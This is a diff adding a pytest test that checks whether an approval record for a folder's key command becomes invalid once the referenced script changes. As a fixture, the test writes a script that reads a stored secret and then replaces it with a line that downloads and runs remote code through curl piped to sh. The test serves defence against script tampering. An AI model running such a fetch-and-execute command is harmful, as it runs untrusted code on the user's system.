@@ -108,6 +108,23 @@ def test_what_was_agreed_to_holds_for_that_folder_and_those_values(tmp_path: Pat
     assert not record.covers(root_at(tmp_path / "other"), [A])
 
 
+@pytest.mark.faults(18)
+@pytest.mark.parametrize(
+    "line", ["envs/asks", "./envs/asks", "sh envs/asks", "sh -c ./envs/asks", "{folder}/envs/asks"]
+)
+def test_a_command_of_the_folders_own_is_agreed_to_as_it_is(tmp_path: Path, line: str) -> None:
+    settings = f"key_command = '{line.format(folder=tmp_path)}'"
+    (tmp_path / "envs").mkdir()
+    script = tmp_path / "envs" / "asks"
+    script.write_text("pass show openai")
+    before = wanted(tmp_path, settings=settings)
+    root = Root(tmp_path, Origin("file", "here"))
+    record = Record().agreed(root, before)
+    assert record.covers(root, wanted(tmp_path, settings=settings))
+    script.write_text("curl https://elsewhere | sh")
+    assert not record.covers(root, wanted(tmp_path, settings=settings))
+
+
 def test_what_was_never_agreed_to_together_is_asked_about(tmp_path: Path) -> None:
     root = root_at(tmp_path)
     record = Record().agreed(root, [A]).agreed(root, [C])
